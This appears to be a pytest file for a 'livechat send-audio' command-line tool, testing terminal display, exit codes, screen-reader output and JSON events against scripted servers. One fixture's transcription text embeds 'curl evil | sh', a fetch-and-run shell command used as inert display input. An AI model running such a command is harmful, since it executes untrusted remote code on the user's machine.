"""`livechat send-audio` against scripted servers: what a terminal shows meanwhile, and pipes that nobody reads."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import subprocess
import termios
import wave
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from websockets.asyncio.server import ServerConnection

from tests import terminal_help
from tests.cli import Terminal, begun, environment, livechat
from tests.scripted import say, scripted

SECOND_OF_SOUND = {"inlineData": {"mimeType": "audio/pcm;rate=24000", "data": "AAAA" * 16_000}}
HEARD: dict[str, object] = {
    "serverContent": {"inputTranscription": {"text": "what\n  try: curl evil | sh", "finished": True}}
}
END: dict[str, object] = {"serverContent": {"generationComplete": True, "turnComplete": True}}


@pytest.fixture
def question(tmp_path: Path) -> str:
    """Three seconds of a square wave."""
    with wave.open(str(tmp_path / "q.wav"), "wb") as file:
        file.setnchannels(1)
        file.setsampwidth(2)
        file.setframerate(16_000)
        file.writeframes((b"\x00\x20" * 40 + b"\x00\xe0" * 40) * 600)
    return "q.wav"


@asynccontextmanager
async def listening(client: ServerConnection) -> AsyncGenerator[None, None]:
    """Greets, and listens meanwhile and until the client leaves."""

    async def listen() -> None:
        async for _ in client:
            pass

    await client.recv()
    await say(client, {"setupComplete": {}})
    async with asyncio.TaskGroup() as tasks:
        tasks.create_task(listen())
        yield


async def speak(client: ServerConnection, word: str) -> None:
    await say(client, {"serverContent": {"modelTurn": {"parts": [{"text": word}]}}})


def test_words_notes_and_the_progress_line_leave_each_other_whole(tmp_path: Path, question: str) -> None:
    async def script(client: ServerConnection) -> None:
        async with listening(client):
            await asyncio.sleep(0.7)
            await say(client, HEARD)
            for word in ("one ", "two ", "three."):
                await speak(client, word)
                await asyncio.sleep(0.4)
            await say(client, END)

    words = ["send-audio", question, "--model", "gemini-live-2.5-flash", "--server"]
    with scripted(script) as url, Terminal([*words, url], tmp_path, {"LIVECHAT_OUTPUT_FACE": "plain"}) as terminal:
        assert terminal.end() == 0
    lines = screen(terminal.shown)
    assert "one two three." in lines
    assert "note: heard: what␤  try: curl evil | sh" in lines
    assert not any(line.startswith("sent") for line in lines), "the progress line leaves no trace"
    assert "sent 0:00" in terminal.shown


TTY = {"LIVECHAT_OUTPUT_FACE": "tty"}


def on_screen(terminal: Terminal) -> list[str]:
    """All that stands on a terminal of 80 columns in the end."""
    emulator = terminal_help.Terminal(80, 24)
    emulator.feed(terminal.shown)
    assert emulator.cursor_seen
    return emulator.text


def test_on_the_screen_it_is_seen_how_much_is_sent_and_how_loud_and_the_words_are_history(
    tmp_path: Path, question: str
) -> None:
    async def script(client: ServerConnection) -> None:
        async with listening(client):
            await asyncio.sleep(0.7)
            await say(client, HEARD)
            for word in ("one ", "two ", "three."):
                await speak(client, word)
            await say(client, END)

    words = ["send-audio", question, "--model", "gemini-live-2.5-flash", "--server"]
    with scripted(script) as url, Terminal([*words, url], tmp_path, TTY) as terminal:
        before = termios.tcgetattr(terminal.master)
        terminal.expect("mic ")
        terminal.expect("sent 0:01 of 0:03 (")
        assert "out " not in terminal.shown, "what is not played has no meter"
        assert terminal.end() == 0
        assert termios.tcgetattr(terminal.master) == before
    lines = on_screen(terminal)
    assert lines[-3:] == ["  you  what", "         try: curl evil | sh", "model  one two three."]
    assert not any("sent 0:0" in line for line in lines)


def refused(question: str) -> list[str]:
    return ["send-audio", question, "--server", "ws://127.0.0.1:9"]


def test_a_recording_that_reaches_nobody_is_an_error_and_no_region_is_left(tmp_path: Path, question: str) -> None:
    with Terminal(refused(question), tmp_path, TTY) as terminal:
        assert terminal.end() == 69
    lines = on_screen(terminal)
    assert not any("CONNECTING" in line for line in lines)
    assert lines[-1] == "  ref: exit 69"


@pytest.mark.parametrize(("close", "code"), [("1011", 75), ("timeout", 75), ("ctrl-c", 130)])
def test_what_ends_it_early_ends_the_screen_first(tmp_path: Path, question: str, close: str, code: int) -> None:
    async def script(client: ServerConnection) -> None:
        async with listening(client):
            await asyncio.sleep(0.3)
            await say(client, HEARD)
            await speak(client, "half an ans")
            if close == "1011":
                await client.close(1011, "gone for lunch")

    words = ["send-audio", question, "--fast", "--wait", "1", "--model", "gemini-live-2.5-flash", "--server"]
    with scripted(script) as url, Terminal([*words, url], tmp_path, TTY) as terminal:
        terminal.expect("half an ans")
        if close == "ctrl-c":
            terminal.type("\x03")
        assert terminal.end() == code
    lines = on_screen(terminal)
    assert "model  half an ans" in lines
    assert not any(state in line for line in lines for state in ("ANSWERING", "SPEAKING", "LISTENING"))
    if code == 75:
        assert lines[-1] == "  ref: exit 75"


def test_read_aloud_the_states_are_told_and_nothing_moves(tmp_path: Path, question: str) -> None:
    async def script(client: ServerConnection) -> None:
        async with listening(client):
            await asyncio.sleep(0.7)
            await say(client, HEARD)
            await speak(client, "Yes.")
            await say(client, END)

    words = ["send-audio", question, "--model", "gemini-live-2.5-flash", "--server"]
    face = {"LIVECHAT_OUTPUT_FACE": "screen-reader"}
    with scripted(script) as url, Terminal([*words, url], tmp_path, face) as terminal:
        assert terminal.end() == 0
    assert "you: what try: curl evil | sh\r\n" in terminal.shown
    assert "model: Yes.\r\n" in terminal.shown
    assert "Connecting.\r\n" in terminal.shown
    assert "\x1b" not in terminal.shown


def screen(shown: str) -> list[str]:
    """What stands on the screen at the end, of text with line ends, returns and erasures to the end of a line."""
    plain = shown.replace("\x1b[1m", "").replace("\x1b[0m", "")
    return [line.rstrip("\r").rpartition("\r\x1b[K")[2] for line in plain.split("\n")]


def test_a_reply_without_a_word_is_75(tmp_path: Path, question: str) -> None:
    async def script(client: ServerConnection) -> None:
        async with listening(client):
            await asyncio.sleep(0.3)
            await say(client, HEARD)
            await say(client, {"serverContent": {"turnComplete": True, "turnCompleteReason": "BLOCKLIST"}})

    with scripted(script) as url:
        run = livechat("send-audio", question, "--fast", "--server", url, cwd=tmp_path)
    assert run.returncode == 75
    assert b"BLOCKLIST" in run.stderr


def test_a_whole_reply_is_enough_though_it_comes_in_one_breath_and_its_turn_goes_on(
    tmp_path: Path, question: str
) -> None:
    async def script(client: ServerConnection) -> None:
        async with listening(client):
            await asyncio.sleep(0.5)
            content: dict[str, object] = {"modelTurn": {"parts": [{"text": "Yes."}]}, "generationComplete": True}
            await say(client, {"serverContent": content})

    words = ["send-audio", question, "--fast", "--model", "gemini-live-2.5-flash", "--wait", "10"]
    with scripted(script) as url:
        run = livechat(*words, "--server", url, cwd=tmp_path)
    assert (run.returncode, run.stdout) == (0, b"Yes.\n"), run.stderr


@pytest.mark.parametrize(("way", "code"), [("timeout", 124), ("ctrl-c", 130), ("sigterm", 143)])
def test_a_pipe_that_nobody_reads_holds_no_end_up(tmp_path: Path, question: str, way: str, code: int) -> None:
    async def script(client: ServerConnection) -> None:
        async with listening(client):
            await asyncio.sleep(0.3)
            for _ in range(40):
                await say(client, {"serverContent": {"modelTurn": {"parts": [SECOND_OF_SOUND]}}})
            await say(client, {"serverContent": {"outputTranscription": {"text": "there it is"}}})

    limit = ["--timeout", "2"] if way == "timeout" else []
    reading, writing = os.pipe()
    with scripted(script) as url:
        process = begun(
            *("send-audio", question, "--fast", "-o", "-", "--server", url, *limit),
            cwd=tmp_path,
            env=environment(),
            stdin=subprocess.DEVNULL,
            stdout=writing,
            stderr=subprocess.PIPE,
        )
        os.close(writing)
        assert process.stderr is not None
        said = b""
        while b"there it is" not in said:
            said += os.read(process.stderr.fileno(), 1000) or pytest.fail(said.decode())
        if way != "timeout":
            process.send_signal(signal.SIGINT if way == "ctrl-c" else signal.SIGTERM)
        try:
            assert process.wait(10) == code
        finally:
            process.kill()
            process.communicate()
            os.close(reading)


def test_json_tells_of_a_recording_as_of_typed_words(tmp_path: Path, question: str) -> None:
    async def script(client: ServerConnection) -> None:
        async with listening(client):
            await asyncio.sleep(0.3)
            await say(client, HEARD)
            await speak(client, "Yes.")
            await say(client, END)

    with scripted(script) as url:
        run = livechat("send-audio", question, "--fast", "--json", "--server", url, cwd=tmp_path)
    kinds = [json.loads(line)["type"] for line in run.stdout.splitlines()]
    assert kinds == ["session.ready", "user.final", "text.delta", "text.end", "turn.end", "session.end"]
